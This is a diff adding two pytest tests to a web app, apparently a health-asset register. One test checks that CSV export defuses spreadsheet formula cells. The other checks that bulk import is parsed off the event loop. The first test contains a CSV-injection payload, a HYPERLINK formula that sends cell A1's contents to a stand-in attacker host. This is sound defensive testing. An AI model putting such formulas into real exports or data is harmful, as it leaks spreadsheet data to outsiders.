@@ -264,3 +264,47 @@ def test_admin_renames_tags_and_reads_the_audit_log(register: TestClient) -> Non
     register.cookies.clear()
     sign_in(register, "mod@example.org")
     assert register.get("/admin/audit").status_code == 403
+
+
+def test_asset_export_defuses_formula_cells(register: TestClient) -> None:
+    import csv
+
+    sign_in(register, "mod@example.org")
+    attack = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    created = suggest(register, name=attack, description="@SUM(1+1)")
+    asset_id = created.headers["location"].split("/")[2].split("?")[0]  # type: ignore[attr-defined]
+    approve(register, asset_id, register.get("/moderation").text)
+    export = register.get("/assets/export.csv")
+    assert export.status_code == 200
+    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(export.text))}
+    assert rows[asset_id]["name"] == "'" + attack and rows[asset_id]["description"] == "'@SUM(1+1)"
+    assert rows[asset_id]["longitude"] == "-2.1917"  # a negative number stays a number
+
+
+def test_bulk_import_is_parsed_off_the_event_loop(
+    register: TestClient, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    import asyncio
+
+    from healthassets.errors import InputError
+    from healthassets.web.routes import moderation
+
+    loops: list[bool] = []
+
+    def parse(*_args: object, **_options: object) -> None:
+        try:
+            asyncio.get_running_loop()
+            loops.append(True)
+        except RuntimeError:
+            loops.append(False)
+        raise InputError("checked")
+
+    monkeypatch.setattr(moderation, "import_asset_file", parse)
+    sign_in(register, "mod@example.org")
+    page = register.get("/moderation")
+    response = register.post(
+        "/moderation/import",
+        data={"csrf_token": csrf_of(page.text)},
+        files={"file": ("assets.csv", io.BytesIO(b"name\n"), "text/csv")},
+    )
+    assert response.status_code == 400 and loops == [False]
